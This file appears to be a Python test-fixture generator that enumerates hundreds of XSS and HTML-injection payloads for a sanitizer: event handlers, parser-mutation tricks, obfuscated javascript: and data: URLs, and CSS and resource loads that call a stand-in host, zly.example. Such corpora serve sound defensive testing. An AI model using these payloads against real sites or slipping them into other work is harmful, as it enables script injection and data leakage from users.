"""Hostile HTML of our own making: every vector in every dress, each trying to call alert(<its number>).

The number of the sample stands for N, so that what ran can be named.
"""

from collections.abc import Iterator
from itertools import product

CALL = "alert(N)"
ELSEWHERE = "https://zly.example/N"

_EVENTS = [
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onpageshow", "onanimationstart", "ontoggle"),
    *("onbegin", "onstart", "onscroll", "onpointerrawupdate", "onbeforetoggle", "onwheel"),
    *("oncontentvisibilityautostatechange", "onsecuritypolicyviolation"),
]
_SELF_STARTING = [
    "<img src=x onerror={call}>",
    '<img src="x" OnErRoR="{call}">',
    "<img/src=x/onerror={call}>",
    "<img src=x onerror\n=\n{call}>",
    "<img src=x:x onerror\x0c={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}//",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributeName=x>",
    "<svg><image href=x onerror={call}>",
    "<body onload={call}>",
    "<video><source onerror={call}></video>",
    "<video src=x onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>x</details>",
    "<iframe onload={call}></iframe>",
    '<iframe srcdoc="&lt;script&gt;parent.{call}&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.{call}"></iframe>',
    '<iframe src="data:text/html,<script>parent.{call}</script>"></iframe>',
    '<object data="javascript:{call}"></object>',
    '<object data="data:text/html,<script>{call}</script>"></object>',
    '<embed src="javascript:{call}">',
    '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{call}%22/>">',
    "<marquee onstart={call}>x</marquee>",
    "<script>{call}</script>",
    "<script>{call}",
    "<SCRIPT SRC=data:text/javascript,{call}></SCRIPT>",
    "<script/x>{call}</script>",
    "<script\n>{call}</script\n>",
    "<svg><script>{call}</script></svg>",
    "<svg><script href=data:text/javascript,{call} /></svg>",
    "<math><mtext><script>{call}</script></mtext></math>",
    '<meta http-equiv="refresh" content="0;url=javascript:{call}">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>{call}</script>">',
    '<link rel="stylesheet" href="data:text/css,*{{}}" onload="{call}">',
    "<style onload={call}></style>",
    '<base href="javascript:/a/-{call}/"><a href=".">x</a>',
    '<form action="javascript:{call}"><input type=submit autofocus></form><script>document.forms[0].submit()</script>',
    "<x onfocus={call} tabindex=1 id=x autofocus>x</x>",
]
#: Parsers that disagree: what is text to one is a tag to the other.
_MUTATING = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={call}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={call}>">',
    '<math></p><style><a id="</style><img src=1 onerror={call}>">',
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    '<noembed><p title="</noembed><img src=x onerror={call}>">',
    '<noframes><p title="</noframes><img src=x onerror={call}>">',
    '<xmp><p title="</xmp><img src=x onerror={call}>">',
    '<textarea><p title="</textarea><img src=x onerror={call}>">',
    '<title><p title="</title><img src=x onerror={call}>">',
    '<iframe><p title="</iframe><img src=x onerror={call}>">',
    "<select><style></select><img src=x onerror={call}></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    "<svg><style><img src=x onerror={call}></style></svg>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={call}></style></annotation-xml></math>',
    "<svg><foreignObject><math><mi></mi><style><img src=x onerror={call}></style></math></foreignObject></svg>",
    "<svg><desc><style></svg><img src=x onerror={call}></style></desc>",
    "<table><td><svg><style></table><img src=x onerror={call}></style>",
    "<!--><img src=x onerror={call}>-->",
    "<!--!><img src=x onerror={call}>-->",
    "<!-- --!><img src=x onerror={call}>",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<svg><![CDATA[><img src=x onerror={call}>]]></svg>",
    "<?xml ?><img src=x onerror={call}>",
    "<template><img src=x onerror={call}></template>",
    "<template shadowrootmode=open><img src=x onerror={call}></template>",
    '<a title="</a><img src=x onerror={call}>">x</a>',
    "<p title='\"><img src=x onerror={call}>'>x</p>",
    "<p title=`><img src=x onerror={call}>`>x</p>",
    "<b <script>{call}</script>0",
    "<<img src=x onerror={call}>>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<im\x00g src=x onerror={call}>",
    "<img src=x o\x00nerror={call}>",
    "\ufeff<img src=x onerror={call}>",
    "&lt;img src=x onerror={call}&gt;",
    "<div/<img src=x onerror={call}>",
    "</p><img src=x onerror={call}><p>",
    "<plaintext><img src=x onerror={call}>",
    '<img src="x"`onerror={call}`>',
    "<a<img src=x onerror={call}>",
]
_ADDRESSES = [
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    " javascript:{call}",
    "\x01javascript:{call}",
    "javascript\x00:{call}",
    "&#106;avascript:{call}",
    "&#0000106avascript:{call}",
    "&#x6A;&#x61;vascript:{call}",
    "javascript&colon;{call}",
    "java&Tab;script:{call}",
    "java&NewLine;script:{call}",
    "javascript://%0a{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChOKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    "blob:https://zly.example/N",
    "file:///etc/passwd",
    "//zly.example/N",
    "cid:javascript:{call}",
]
_CARRIERS = [
    '<a href="{address}">x</a>',
    '<a xlink:href="{address}">x</a>',
    '<svg><a href="{address}"><text>x</text></a></svg>',
    '<area href="{address}">',
    '<form action="{address}"><button>x</button></form>',
    '<button formaction="{address}">x</button>',
    '<img src="{address}">',
    '<iframe src="{address}"></iframe>',
    '<object data="{address}"></object>',
    '<table background="{address}"><td>x</td></table>',
    '<link rel=stylesheet href="{address}">',
    '<base href="{address}">',
]
_FETCHING = [
    '<img src="{there}">',
    '<img srcset="{there} 1x">',
    '<img lowsrc="{there}" dynsrc="{there}">',
    '<image src="{there}">',
    '<picture><source srcset="{there}"><img></picture>',
    '<video poster="{there}"></video>',
    '<audio src="{there}" autoplay></audio>',
    '<input type=image src="{there}">',
    '<body background="{there}">',
    '<table background="{there}"><tr><td background="{there}">x</table>',
    '<link rel=stylesheet href="{there}">',
    '<link rel=prefetch href="{there}">',
    '<link rel=dns-prefetch href="//zly.example">',
    '<link rel=preconnect href="https://zly.example">',
    '<link rel=icon href="{there}">',
    '<iframe src="{there}"></iframe>',
    '<frameset><frame src="{there}"></frameset>',
    '<embed src="{there}">',
    '<object data="{there}"></object>',
    '<script src="{there}"></script>',
    '<svg><image href="{there}"/><use href="{there}#a"/></svg>',
    '<svg><feImage href="{there}"/></svg>',
    '<meta http-equiv=refresh content="0;url={there}">',
    '<base href="https://zly.example/"><img src="N">',
    '<p style="background:url({there})">x</p>',
    "<p style=\"background-image:url('{there}')\">x</p>",
    '<p style="background:u\\72l({there})">x</p>',
    '<p style="list-style:url({there})">x</p>',
    '<p style="border-image:url({there})">x</p>',
    '<p style="border:url({there})">x</p>',
    '<p style="cursor:url({there}),auto">x</p>',
    '<p style="content:url({there})">x</p>',
    '<p style="color:red;}}@import url({there});a{{">x</p>',
    '<p style="font-family:x;src:url({there})">x</p>',
    "<style>@import '{there}';</style>",
    "<style>@font-face{{font-family:x;src:url({there})}}p{{font-family:x}}</style><p>x</p>",
    "<style>input[value^=a]{{background:url({there})}}</style><input value=a>",
    "<style>@import'{there}'</style",
    '<a href="x" ping="{there}">x</a>',
    '<form action="{there}"><input name=x autofocus></form>',
    '<bgsound src="{there}">',
    '<track src="{there}">',
    '<xml src="{there}"></xml>',
    '<img src="https:/\\zly.example/N">',
    '<img src="\\\\zly.example\\N">',
    '<img src="&#104;ttps://zly.example/N">',
]
_STYLES = [
    "width:expression({call})",
    "background:url(javascript:{call})",
    "-moz-binding:url(data:text/xml,<x/>)",
    "behavior:url(#default#time2)",
    "position:fixed;inset:0;z-index:99999;background:#fff",
    "animation:x 1s",
    "color:red\\;}}</style><img src=x onerror={call}>",
    "color:/*</p><img src=x onerror={call}>*/red",
    "color:&quot;&gt;&lt;img src=x onerror={call}&gt;",
]


def samples() -> Iterator[str]:
    """Give every sample, its number in its place."""
    for number, sample in enumerate(_samples()):
        yield sample.replace("alert(N)", f"alert({number})").replace("/N", f"/{number}")


def _samples() -> Iterator[str]:
    for vector in (*_SELF_STARTING, *_MUTATING):
        yield vector.format(call=CALL)
    for carrier, address in product(_CARRIERS, _ADDRESSES):
        yield carrier.format(address=address.format(call=CALL))
    for event, tag in product(_EVENTS, ("img src=x", "p tabindex=0 autofocus", "table", "font", "a href=#", "svg")):
        yield f"<{tag} {event}={CALL}>x"
        yield f'<{tag} {event.upper()}="{CALL}" style="animation:x 1s">x</{tag.split()[0]}>'
    for vector in _FETCHING:
        yield vector.format(there=ELSEWHERE)
    for style in _STYLES:
        yield f'<p style="{style.format(call=CALL)}">x</p>'
        yield f"<style>p{{{style.format(call=CALL)}}}</style><p>x</p>"
    # The same, where a mail is cut into other frames.
    for vector in (*_SELF_STARTING, *_MUTATING):
        yield f"<blockquote><table><tr><td>{vector.format(call=CALL)}</td></tr></table></blockquote>"
        yield f"<svg><foreignObject>{vector.format(call=CALL)}</foreignObject></svg>"
